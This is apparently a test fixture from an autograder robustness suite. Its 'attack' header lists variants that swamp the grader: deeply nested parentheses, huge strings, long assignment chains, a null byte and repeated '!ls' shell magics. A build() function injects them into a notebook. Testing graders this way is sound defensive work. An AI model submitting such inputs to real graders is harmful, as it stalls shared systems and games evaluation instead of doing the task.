# /// attack
# tries = "keeps the grader busy with a notebook that is hard to read"
# question = "relu_forward"
# verdict = ["PASSED", "ERROR", "FAILED"]
# made = true
# variants = [
#     "['pass' for _ in range(10**5)]",
#     "['x = ' + '(' * 10**5 + ')' * 10**5]",
#     "['x = ' + '-' * 10**6 + '1']",
#     "['x = 1' + ' + 1' * 10**5]",
#     "['x0 = 1\\n' + ''.join(f'x{n} = x{n - 1}\\n' for n in range(1, 40000))]",
#     "['%time\\n' * 10**5, '!ls\\n?' * 10**5]",
#     "['def relu_forward(x):\\n    \"\\0\"']",
#     "['x = \"' + 'A' * 10**7 + '\"']",
# ]
# ///
import json


def build(folder, honest):
    book = json.loads(honest)
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 10**7}
    for source in VARIANT:
        cell = {"cell_type": "code", "metadata": {}, "source": source, "outputs": []}
        book["cells"].insert(0, cell | {"execution_count": None})
    book["cells"][-1]["outputs"] = [output]
    (folder / "03_pooling_and_losses.ipynb").write_text(json.dumps(book))
